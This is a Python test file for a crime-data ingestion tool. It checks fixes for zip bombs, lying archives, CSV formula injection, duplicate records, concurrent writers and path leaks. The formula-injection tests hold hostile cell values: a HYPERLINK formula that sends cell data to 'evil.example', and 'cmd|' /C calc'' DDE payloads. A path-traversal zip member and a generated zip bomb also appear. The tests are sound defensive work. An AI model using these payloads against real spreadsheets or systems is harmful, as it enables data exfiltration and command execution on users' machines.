"""Issue 13's numbered defects, each with a test that failed before the fix: hostile archives, spreadsheet
formulas, hidden mapping errors, duplicate Crime IDs, future months, concurrent writers, crash leftovers and
path leaks."""
from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
import zipfile
from datetime import date
from pathlib import Path

import pytest
from typer.testing import CliRunner

from crimeassess.cli import app
from crimeassess.errors import InputError, PeriodError, StoreError, UnsafeArchiveError
from crimeassess.ingest import ingest
from crimeassess.sources.discover import ArchiveLimits, expand, parse_size
from crimeassess.sources.policeuk import decode, header_of, read_api_json, read_street_csv, read_street_csv_rows
from crimeassess.sources.policeuk_fast import read_street_csv_fast
from crimeassess.store import Store, check_store, gc_store
from policeuk_fixtures import row, street_csv

runner = CliRunner()
REPO = Path(__file__).resolve().parents[1]


def _one_line_error(r, *needles: str) -> str:
    """Assert a CLI result is exit 2 with exactly one 'error:' line holding every needle; return the line."""
    assert r.exit_code == 2, r.output
    lines = r.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error:"), r.output
    assert "Traceback" not in r.output
    for n in needles:
        assert n in lines[0], (n, lines[0])
    return lines[0]


def _street(tmp: Path, name: str, rows: list[str]) -> Path:
    p = tmp / name
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(street_csv(rows))
    return p


def _rows(n: int, month: str = "2018-03", prefix: str = "c") -> list[str]:
    return [row(f"{prefix}{i}", month, "Burglary") for i in range(n)]


def _count_csv_rows(data: bytes) -> int:
    return sum(1 for _ in csv.reader(io.StringIO(data.decode("utf-8")))) - 1


# ---- 1. zip bombs -----------------------------------------------------------------------------------------
def test_zip_bomb_ratio_is_refused_before_reading(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    z = tmp_path / "bomb.zip"
    with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("2018-03/2018-03-testshire-street.csv", b"\0" * (24 << 20))  # 24 MiB of zeros, ~24 KB zipped
    assert z.stat().st_size < 200_000
    opened = []
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *a, **k: opened.append(a) or (_ for _ in ()).throw(AssertionError))
    r = runner.invoke(app, ["ingest", str(z), "--store", str(tmp_path / "s")])
    _one_line_error(r, "refused", "expands more than 100 times", "CRIMEASSESS_ZIP_MAX_RATIO")
    assert opened == [] and not (tmp_path / "s" / "manifest.json").exists()


def test_zip_member_and_archive_limits_are_configurable(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    data = street_csv(_rows(6000))  # about 0.6 MB, stored uncompressed: ratio 1
    assert len(data) > 512 * 1024
    z = tmp_path / "big.zip"
    with zipfile.ZipFile(z, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("a/2018-03-testshire-street.csv", data)
        zf.writestr("b/2018-04-testshire-street.csv", data.replace(b"2018-03", b"2018-04"))
    st = tmp_path / "s"
    monkeypatch.setenv("CRIMEASSESS_ZIP_MAX_MEMBER", "512KB")
    _one_line_error(runner.invoke(app, ["ingest", str(z), "--store", str(st)]), "expands to more than 0.5 MiB",
                    "CRIMEASSESS_ZIP_MAX_MEMBER")
    monkeypatch.setenv("CRIMEASSESS_ZIP_MAX_MEMBER", "1MB")
    monkeypatch.setenv("CRIMEASSESS_ZIP_MAX_ARCHIVE", "1MB")
    _one_line_error(runner.invoke(app, ["ingest", str(z), "--store", str(st)]), "archive expands to",
                    "CRIMEASSESS_ZIP_MAX_ARCHIVE")
    assert not (st / "manifest.json").exists()
    monkeypatch.delenv("CRIMEASSESS_ZIP_MAX_ARCHIVE")
    r = runner.invoke(app, ["ingest", str(z), "--store", str(st), "--json"])
    assert r.exit_code == 0, r.output
    assert [i["rows_loaded"] for i in json.loads(r.stdout)["inputs"]] == [_count_csv_rows(data)] * 2


def test_archive_limits_from_library_and_sizes() -> None:
    assert parse_size("512MB") == 512 << 20 and parse_size("1GiB") == 1 << 30 and parse_size("100") == 100
    with pytest.raises(InputError):
        parse_size("lots")
    lim = ArchiveLimits(max_member_bytes=10)
    assert lim.max_ratio == 100.0


def test_archive_of_too_many_files_is_refused(tmp_path: Path) -> None:
    z = tmp_path / "many.zip"
    with zipfile.ZipFile(z, "w") as zf:
        for i in range(30):
            zf.writestr(f"f{i}.txt", b"x")
    with pytest.raises(UnsafeArchiveError, match="archive holds 30 files, more than 20"):
        expand([z], ArchiveLimits(max_members=20))
    assert len(expand([z], ArchiveLimits(max_members=30))) == 30


def test_zip_member_lying_about_its_size_is_skipped_not_inflated(tmp_path: Path) -> None:
    z = tmp_path / "liar.zip"
    payload = street_csv(_rows(2000))
    with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("2018-03-testshire-street.csv", payload)
    raw = bytearray(z.read_bytes())
    for sig, off in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):  # declared uncompressed size: 100 bytes
        i = raw.index(sig)
        raw[i + off:i + off + 4] = (100).to_bytes(4, "little")
    z.write_bytes(bytes(raw))
    folder = tmp_path / "in"
    folder.mkdir()
    z.rename(folder / "liar.zip")
    good = _street(folder, "2018-04-testshire-street.csv", _rows(3, "2018-04"))
    rep = ingest([folder], Store(tmp_path / "s"))
    by = {Path(r.path.split("!")[0]).name: r for r in rep.inputs}
    assert by["liar.zip"].status == "skipped" and "unreadable zip member" in by["liar.zip"].reason
    assert by[good.name].status == "loaded" and by[good.name].rows_loaded == 3


# ---- 2. formula injection in CSVs -------------------------------------------------------------------------
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _assessment_dict() -> dict:
    ward_theme = {"id": "burglary", "label": "Burglary", "current": 12, "previous": 7, "change": 5, "pct_change": -5.9}
    return {
        "area": {"code": "E1", "name": "X", "level": "lad"}, "period": {"label": "2018"}, "compare": {"label": "2017"},
        "total": {"current": 40, "previous": 45, "change": -5, "pct_change": -11.1, "z": -0.77, "series": []},
        "anti_social_behaviour": {"current": 9, "previous": 8}, "unplaced": {"current": 0, "previous": 1},
        "categories": [{"id": "drugs", "label": "+cmd|' /C calc'!A0", "current": 6, "previous": 9, "change": -3}],
        "themes": [{"id": "burglary", "label": "@SUM(1+1)*cmd|' /C calc'!A0", "available": True, "current": 12,
                    "previous": 7, "change": 5, "pct_change": -5.9, "rate_base": "\tresidents", "series": []}],
        "wards": [{"code": "E05", "name": EVIL, "rank": 1, "current": 40, "previous": 45, "change": -5,
                   "pct_change": -11.1, "z": -0.77, "population": 1000, "run": {"direction": "-fall", "length": 1},
                   "themes": [ward_theme]},
                  {"code": "E06", "name": "\rCR ward", "rank": 2, "current": 0, "previous": 0, "themes": []}],
    }


def test_csv_cells_are_neutralised_but_numbers_stay_numbers(tmp_path: Path) -> None:
    from crimeassess.report.build import assessment_csv, neutralise_cell, write_tables

    assert neutralise_cell(-5.9) == -5.9 and neutralise_cell("-5.9") == "-5.9" and neutralise_cell("+3") == "+3"
    assert neutralise_cell("-1e-3") == "-1e-3" and neutralise_cell("-2+3") == "'-2+3" and neutralise_cell(None) == ""
    files = write_tables(_assessment_dict(), tmp_path)
    formula_start = ("=", "+", "-", "@", "\t", "\r")
    for name, path in files.items():
        with open(path, newline="", encoding="utf-8") as fh:
            for rec in csv.reader(fh):
                for cell in rec:
                    try:
                        float(cell)
                        continue  # a number, even a negative one, is left as it is
                    except ValueError:
                        assert not cell.startswith(formula_start), (name, cell)
    with open(files["wards.csv"], newline="", encoding="utf-8") as fh:
        wards = list(csv.DictReader(fh))
    assert wards[0]["name"] == "'" + EVIL and wards[1]["name"] == "'\rCR ward"
    assert wards[0]["change"] == "-5" and wards[0]["pct_change"] == "-11.1" and wards[0]["z"] == "-0.77"
    assert wards[0]["run_direction"] == "'-fall"
    with open(files["ward_themes.csv"], newline="", encoding="utf-8") as fh:
        (wt,) = list(csv.DictReader(fh))
    assert wt["ward_name"] == "'" + EVIL and wt["pct_change"] == "-5.9" and float(wt["pct_change"]) == -5.9
    long = list(csv.DictReader(io.StringIO(assessment_csv(_assessment_dict()), newline="")))
    assert {r["ward_name"] for r in long if r["table"] == "ward_theme"} == {"'" + EVIL}
    assert next(r for r in long if r["table"] == "category")["label"].startswith("'+")


# ---- 3. mapping errors --------------------------------------------------------------------------------------
EXTRACT = "crime_id,recorded_date,offence_code\nC1,2018-03-04,8N\nC2,2018-12-31,28E\n"


@pytest.mark.parametrize("toml, needles", [
    ('date_format = "%Y-%m-%d"\ndelimeter = ";"\n', ["line 2", "'delimeter'", "unknown key"]),
    ('[columns]\ncrime_id = "CRN"\n[columns\n', ["not valid TOML", "line 3"]),
    ('[columns]\ncrime_id = "CRN"\ncrime_numbr = "X"\n', ["line 3", "'crime_numbr'", "not a canonical column"]),
    ('[flags.knife_flag]\ntrue_valus = ["K"]\n', ["line 2", "'true_valus'"]),
])
def test_bad_mapping_is_reported_as_a_bad_mapping(tmp_path: Path, toml: str, needles: list[str]) -> None:
    (tmp_path / "e.csv").write_text(EXTRACT)
    (tmp_path / "m.toml").write_text(toml)
    r = runner.invoke(app, ["ingest", str(tmp_path / "e.csv"), "--mapping", str(tmp_path / "m.toml"),
                            "--store", str(tmp_path / "s")])
    line = _one_line_error(r, *needles)
    assert "not police.uk data" not in line
    assert not (tmp_path / "s" / "manifest.json").exists()


# ---- 4. duplicate Crime IDs -------------------------------------------------------------------------------
@pytest.mark.parametrize("quoted", [False, True])  # quoted: a quoted newline sends the file to the row reader
def test_duplicate_crime_ids_within_a_file_are_quarantined(tmp_path: Path, quoted: bool) -> None:
    rows = [row("dup", "2018-03", "Burglary")] * 3 + [row("", "2018-03", "Anti-social behaviour")] * 2
    rows += [row("bad", "2018-13", "Burglary"), row("bad", "2018-03", "Burglary"), row("ok", "2018-03", "Drugs")]
    if quoted:
        rows.append(row("q", "2018-03", "Drugs").replace("On or near High Street", '"On or near\nHigh Street"'))
    f = _street(tmp_path, "2018-03-testshire-street.csv", rows)
    (r,) = ingest([f], Store(tmp_path / "s")).inputs
    n_rows = _count_csv_rows(f.read_bytes())
    assert r.rows_read == n_rows
    assert r.quarantine_reasons == {"duplicate Crime ID": 2, "invalid month": 1}
    assert r.rows_loaded == n_rows - 3
    from crimeassess.store import quarantined_rows

    dups = [q for q in quarantined_rows(Store(tmp_path / "s")) if q["reason"].startswith("duplicate")]
    assert [(q["line"], q["reason"]) for q in dups] == [
        (3, "duplicate Crime ID 'dup' (first loaded from line 2)"),
        (4, "duplicate Crime ID 'dup' (first loaded from line 2)")]


def test_duplicates_fast_and_row_readers_agree() -> None:
    rows = [row("a", "2018-03", "Burglary"), row("b", "2018-03", "Drugs"), row("a", "2018-03", "Robbery"),
            row("b", "2018-99", "Drugs"), row("b", "2018-03", "Drugs"), row("", "2018-12", "Anti-social behaviour")]
    data = street_csv(rows)
    header = header_of(decode(data))
    fast = read_street_csv_fast(data, header, input_id="x", display_name="f.csv")
    slow = read_street_csv_rows(decode(data), header, input_id="x", display_name="f.csv")
    assert fast is not None and fast.records.equals(slow.records) and fast.quarantine == slow.quarantine
    assert [q["line"] for q in fast.quarantine] == [4, 5, 6]


def test_same_crime_ids_in_two_files_of_a_force_month_count_once(tmp_path: Path) -> None:
    st = Store(tmp_path / "s")
    a = _street(tmp_path / "a", "2018-03-testshire-street.csv", _rows(10))
    b = _street(tmp_path / "b", "2018-03-testshire-street.csv", _rows(12))  # republished: ids c0..c9 again
    ingest([a], st)
    (rb,) = ingest([b], st).inputs
    assert rb.supersedes and rb.live_months == ["2018-03"]
    con = st.connect()
    ids = con.execute("SELECT record_id, count(*) FROM records GROUP BY 1 HAVING count(*) > 1").fetchall()
    assert ids == [] and con.execute("SELECT count(*) FROM records").fetchone()[0] == 12
    rep = check_store(st)
    assert rep.ok and rep.problems == []


# ---- 5. months in the future ----------------------------------------------------------------------------
def test_future_months_are_quarantined_in_street_and_api(tmp_path: Path) -> None:
    today = date(2018, 6, 15)
    rows = [row("a", "2018-06", "Burglary"), row("b", "2018-07", "Burglary"), row("c", "2099-01", "Drugs"),
            row("d", "2017-12", "Drugs")]
    data = street_csv(rows)
    res = read_street_csv(data, input_id="x", display_name="f.csv", today=today)
    slow = read_street_csv_rows(decode(data), header_of(decode(data)), input_id="x", display_name="f.csv", today=today)
    assert res.quarantine == slow.quarantine and res.records.equals(slow.records)
    assert [(q["line"], q["reason"]) for q in res.quarantine] == [
        (3, "month in the future '2018-07' (latest accepted 2018-06)"),
        (4, "month in the future '2099-01' (latest accepted 2018-06)")]
    assert res.months == ["2017-12", "2018-06"]
    items = [{"category": "burglary", "month": m, "location": {"latitude": "50.9", "longitude": "-1.4"}, "id": i}
             for i, m in enumerate(["2018-06", "2099-01", "2017-12"])]
    api = read_api_json(json.dumps(items).encode(), input_id="y", display_name="a.json", today=today)
    assert [(q["line"], q["reason"]) for q in api.quarantine] == [(2, "month in the future '2099-01' (latest accepted 2018-06)")]
    assert api.months == ["2017-12", "2018-06"]
    # through ingest, with the real clock: 2099 is always in the future
    f = _street(tmp_path, "f.csv", [row("a", "2018-03", "Burglary"), row("z", "2099-01", "Burglary")])
    (r,) = ingest([f], Store(tmp_path / "s")).inputs
    assert r.quarantine_reasons == {"month in the future": 1} and r.rows_loaded == 1


# ---- 6. concurrent writers --------------------------------------------------------------------------------
def _cli_child(args: list[str], env: dict[str, str]) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-c", "from crimeassess.cli import app; app()", *args],
                            env={**os.environ, **env}, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def test_second_writer_fails_clearly_after_the_timeout(tmp_path: Path) -> None:
    st = Store(tmp_path / "s")
    ingest([_street(tmp_path / "a", "2018-02-testshire-street.csv", _rows(2, "2018-02"))], st)
    before = st.manifest_path.read_bytes()
    f = _street(tmp_path / "b", "2018-03-testshire-street.csv", _rows(3))
    with st.lock():
        p = _cli_child(["ingest", str(f), "--store", str(st.path)], {"CRIMEASSESS_LOCK_TIMEOUT": "1"})
        out, err = p.communicate(timeout=120)
    assert p.returncode == 2, err
    lines = err.strip().splitlines()
    assert lines[0].startswith("waiting for another writer") and f"process {os.getpid()}" in lines[0]
    assert len(lines) == 2 and lines[1].startswith("error:") and "locked by another writer" in lines[1]
    assert "gave up after 1s" in lines[1] and "nothing was written" in lines[1]
    assert st.manifest_path.read_bytes() == before


def test_second_writer_waits_then_commits(tmp_path: Path) -> None:
    st = Store(tmp_path / "s")
    f = _street(tmp_path / "b", "2018-03-testshire-street.csv", _rows(3))
    with st.lock():
        p = _cli_child(["ingest", str(f), "--store", str(st.path), "--json"], {"CRIMEASSESS_LOCK_TIMEOUT": "120"})
        first = p.stderr.readline()
        assert first.startswith("waiting for another writer")
        assert not st.manifest_path.exists()
    out, err = p.communicate(timeout=120)
    assert p.returncode == 0, err
    (inp,) = json.loads(out)["inputs"]
    assert inp["status"] == "loaded" and inp["live_months"] == ["2018-03"] and inp["rows_loaded"] == 3


def test_concurrent_ingests_report_what_committed(tmp_path: Path) -> None:
    st = Store(tmp_path / "s")
    old = _street(tmp_path / "old", "2018-03-testshire-street.csv", _rows(5))
    new = _street(tmp_path / "new", "2018-03-testshire-street.csv", _rows(7))
    procs = [_cli_child(["ingest", str(f), "--store", str(st.path), "--json"], {}) for f in (old, new)]
    reports = []
    for p in procs:
        out, err = p.communicate(timeout=120)
        assert p.returncode == 0, err
        (inp,) = json.loads(out)["inputs"]
        reports.append(inp)
    assert [r["status"] for r in reports] == ["loaded", "loaded"]
    # exactly one run committed second and says it replaced the other; the manifest agrees
    second = [r for r in reports if r["supersedes"]]
    assert len(second) == 1
    live = [i for i in st.inputs() if i["live"]]
    assert [i["input_id"] for i in live] == [second[0]["input_id"]]
    first = next(r for r in reports if r is not second[0])
    assert second[0]["supersedes"][0]["input_id"] == first["input_id"]
    assert check_store(st).ok


def test_lock_is_reentrant_and_times_out_in_library(tmp_path: Path) -> None:
    a, b = Store(tmp_path / "s", lock_timeout=0.2, on_lock_wait=lambda m: None), Store(tmp_path / "s", lock_timeout=0.2)
    msgs: list[str] = []
    b.on_lock_wait = msgs.append
    with a.lock(), a.lock():
        with pytest.raises(StoreError, match="locked by another writer"):
            with b.lock():
                pass
    assert len(msgs) == 1
    with b.lock():
        pass


# ---- 7. crash leftovers, corrupt zips, NULs, store check / gc, report and geography commits ------------------
def test_corrupt_zip_in_a_folder_is_skipped_and_listed(tmp_path: Path) -> None:
    folder = tmp_path / "archive"
    good = _street(folder / "2018-03", "2018-03-testshire-street.csv", _rows(4))
    (folder / "broken.zip").write_bytes(b"PK\x03\x04 this is not a zip")
    r = runner.invoke(app, ["ingest", str(folder), "--store", str(tmp_path / "s"), "--json"])
    assert r.exit_code == 0, r.output
    ins = {Path(i["path"]).name: i for i in json.loads(r.stdout)["inputs"]}
    assert ins["broken.zip"]["status"] == "skipped" and ins["broken.zip"]["reason"].startswith("unreadable zip archive")
    assert ins[good.name]["status"] == "loaded" and ins[good.name]["rows_loaded"] == 4
    # named directly, the same zip is an error
    _one_line_error(runner.invoke(app, ["ingest", str(folder / "broken.zip"), "--store", str(tmp_path / "s")]),
                    "unreadable zip archive")


def test_nul_bytes_are_quarantined_never_stored(tmp_path: Path) -> None:
    rows = [row("a", "2018-03", "Burglary"), row("b\x00x", "2018-03", "Burglary"), row("c", "2018-12", "Drugs")]
    f = _street(tmp_path, "2018-03-testshire-street.csv", rows)
    st = Store(tmp_path / "s")
    (r,) = ingest([f], st).inputs
    assert (r.rows_read, r.rows_loaded, r.quarantine_reasons) == (3, 2, {"NUL byte in row": 1})
    con = st.connect()
    assert con.execute("SELECT count(*) FROM records WHERE contains(record_id, chr(0))").fetchone()[0] == 0
    api = [{"category": "burglary", "month": "2018-03", "location": {"latitude": "50.9", "longitude": "-1.4",
            "street": {"name": "On or near \u0000"}}, "id": 1},
           {"category": "burglary", "month": "2018-03", "location": {"latitude": "50.9", "longitude": "-1.4"}, "id": 2}]
    res = read_api_json(json.dumps(api).encode(), input_id="y", display_name="a.json")
    assert [(q["line"], q["reason"]) for q in res.quarantine] == [(1, "NUL byte in row")]
    from crimeassess.sources.extract import read_extract_bytes

    ext = read_extract_bytes(b"crime_id,recorded_date,offence_code\nC1,2018-03-04,8N\nC\x002,2018-03-04,8N\n",
                             input_id="e", display_name="e.csv")
    assert [(q["line"], q["reason"]) for q in ext.quarantine] == [(3, "NUL byte in row")]


def test_huge_quarantined_rows_are_clipped(tmp_path: Path) -> None:
    from crimeassess.store import MAX_RAW_CHARS, quarantined_rows

    big = row("big", "2018-03", "Drugs").replace("High Street", "A" * (10 << 20))
    st = Store(tmp_path / "s")
    ingest([_street(tmp_path, "2018-03-testshire-street.csv", [*_rows(2), big])], st)
    (q,) = quarantined_rows(st)
    assert q["line"] == 4 and q["reason"].startswith("unparseable CSV row: field larger than field limit")
    assert len(q["raw"]) < MAX_RAW_CHARS + 60 and q["raw"].endswith(f"({len(big):,} characters in all)")


def test_store_check_and_gc_after_a_killed_writer(tmp_path: Path) -> None:
    st = Store(tmp_path / "s")
    ingest([_street(tmp_path / "a", "2018-01-testshire-street.csv", _rows(5, "2018-01"))], st)
    files = [_street(tmp_path / "b", f"2018-0{m}-testshire-street.csv", _rows(5, f"2018-0{m}")) for m in (2, 3)]
    code = "import sys; from crimeassess.ingest import ingest; ingest(sys.argv[2:], sys.argv[1])"
    proc = subprocess.Popen([sys.executable, "-c", code, str(st.path), *map(str, files)],
                            env={**os.environ, "CRIMEASSESS_PAUSE_AT": "before-manifest"})
    flag = st.path / ".paused-before-manifest"
    deadline = time.monotonic() + 60
    while not flag.exists() and time.monotonic() < deadline and proc.poll() is None:
        time.sleep(0.05)
    assert flag.exists()
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait(timeout=30)
    rep = check_store(st)
    assert rep.ok and len(rep.orphans) == 1 and all(o.startswith("records/") for o in rep.orphans)  # one batch file
    r = runner.invoke(app, ["store", "check", "--store", str(st.path), "--json"])
    assert r.exit_code == 0 and json.loads(r.stdout)["orphans"] == rep.orphans
    assert runner.invoke(app, ["store", "gc", "--store", str(st.path), "--dry-run"]).exit_code == 0
    assert len(check_store(st).orphans) == 1
    r = runner.invoke(app, ["store", "gc", "--store", str(st.path), "--json"])
    assert r.exit_code == 0 and json.loads(r.stdout)["removed"] == rep.orphans
    assert check_store(st).orphans == [] and check_store(st).ok
    # a damaged store is reported, exit 1
    (st.path / st.inputs()[0]["records_file"]).unlink()
    r = runner.invoke(app, ["store", "check", "--store", str(st.path)])
    assert r.exit_code == 1 and "is missing" in r.output
    _one_line_error(runner.invoke(app, ["store", "check", "--store", str(tmp_path / "none")]), "no store here")
    with pytest.raises(StoreError):
        gc_store(tmp_path / "none")


def test_store_check_finds_wrong_counts_and_bad_manifest(tmp_path: Path) -> None:
    st = Store(tmp_path / "s")
    ingest([_street(tmp_path, "2018-01-testshire-street.csv", _rows(5, "2018-01") + [row("x", "2018-13", "Drugs")])], st)
    m = json.loads(st.manifest_path.read_text())
    m["inputs"][0]["rows_loaded"] = 6
    st.manifest_path.write_text(json.dumps(m))
    problems = check_store(st).problems
    assert any("rows read 6 != loaded 6 + quarantined 1" in p for p in problems)
    assert any("holds 5 rows, the manifest says 6" in p for p in problems)
    st.manifest_path.write_text("{not json")
    _one_line_error(runner.invoke(app, ["store", "check", "--store", str(st.path)]), "unreadable store manifest")


def test_killed_geography_load_leaves_nothing_loaded(tmp_path: Path) -> None:
    lu = tmp_path / "LSOA11_WD17_LAD17_EW_LU.csv"
    lu.write_text("LSOA11CD,LSOA11NM,WD17CD,WD17NM,LAD17CD,LAD17NM\nE01000001,A 001A,E05000001,Ward A,E06000001,Town\n")
    lad = tmp_path / "LAD17_CSP17_PFA17_EW_LU.csv"
    lad.write_text("LAD17CD,LAD17NM,CSP17CD,CSP17NM,PFA17CD,PFA17NM\nE06000001,Town,E22000001,Town CSP,E23000001,Testshire\n")
    st = Store(tmp_path / "s")
    ingest([_street(tmp_path, "2018-01-testshire-street.csv", _rows(2, "2018-01"))], st)
    before = st.manifest_path.read_bytes()
    code = "import sys; from crimeassess.geography.load import load_geography; load_geography(sys.argv[2:], sys.argv[1])"
    proc = subprocess.Popen([sys.executable, "-c", code, str(st.path), str(lu), str(lad)],
                            env={**os.environ, "CRIMEASSESS_PAUSE_AT": "geography-between-files"})
    flag = st.path / ".paused-geography-between-files"
    deadline = time.monotonic() + 60
    while not flag.exists() and time.monotonic() < deadline and proc.poll() is None:
        time.sleep(0.05)
    assert flag.exists(), "loader never reached the pause point"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait(timeout=30)
    assert st.manifest_path.read_bytes() == before and st.geography_entries() == []
    # a bad file named last: nothing of the good first file is loaded either
    bad = tmp_path / "notes.csv"
    bad.write_text("name,age\nbob,3\n")
    _one_line_error(runner.invoke(app, ["geography", "load", str(lu), str(bad), "--store", str(st.path)]))
    assert st.manifest_path.read_bytes() == before
    from crimeassess.geography.load import load_geography

    reps = load_geography([lu, lad], st)
    assert [r.kind for r in reps] == ["lsoa-ward-lookup", "lad-csp-pfa-lookup"]
    assert {e["kind"] for e in st.geography_entries()} == {"lsoa_ward", "lad_csp_pfa"}
    load_geography([lu], st)  # replacing a table leaves the old file as an orphan for gc
    rep = check_store(st)
    # the killed run's file and the replaced one
    assert rep.ok and len(rep.orphans) == 2 and all(o.startswith("geography/lsoa_ward/") for o in rep.orphans)


# ---- 8. paths and periods -------------------------------------------------------------------------------------
def test_healthz_and_inputs_show_file_names_only(tmp_path: Path) -> None:
    from fastapi.testclient import TestClient

    from crimeassess.web.app import create_app

    st = Store(tmp_path / "secret-folder" / "store")
    z = tmp_path / "arch.zip"
    with zipfile.ZipFile(z, "w") as zf:
        zf.writestr("2018-03/2018-03-testshire-street.csv", street_csv(_rows(2)))
    ingest([_street(tmp_path / "deep" / "dir", "2018-02-testshire-street.csv", _rows(2, "2018-02")), z], st)
    ingest([_street(tmp_path / "other", "2018-02-testshire-street.csv", _rows(3, "2018-02"))], st)
    client = TestClient(create_app(st))
    body = client.get("/healthz").text + client.get("/api/inputs").text
    assert str(tmp_path) not in body and "secret-folder" not in body and "deep/dir" not in body
    ins = client.get("/api/inputs").json()
    assert sorted(i["path"] for i in ins) == sorted(["2018-02-testshire-street.csv", "2018-02-testshire-street.csv",
                                                     "arch.zip!2018-03/2018-03-testshire-street.csv"])
    assert any(i["supersedes"] for i in ins)
    assert client.get("/healthz").json()["store"] == "store"


@pytest.mark.parametrize("text", ["1940-01..2020-12", "2000-01..2010-01", "1899-01", "12m-0000-01", "28d-0001-01-01",
                                  "ytd-9999-12-31"])
def test_period_length_and_years_are_bounded(text: str, tmp_path: Path) -> None:
    from crimeassess.assess.periods import MAX_PERIOD_MONTHS, parse_period

    with pytest.raises(PeriodError):
        parse_period(text)
    assert MAX_PERIOD_MONTHS == 120 and parse_period("2000-01..2009-12").n_months == 120
    _one_line_error(runner.invoke(app, ["assess", "--area", "X", "--period", text, "--store", str(tmp_path / "s")]))


def test_expand_refuses_unsafe_archives_in_folders_too(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    with zipfile.ZipFile(folder / "evil.zip", "w") as zf:
        zf.writestr("../../etc/x.csv", street_csv(_rows(1)))
    with pytest.raises(UnsafeArchiveError, match="escapes"):
        expand([folder])
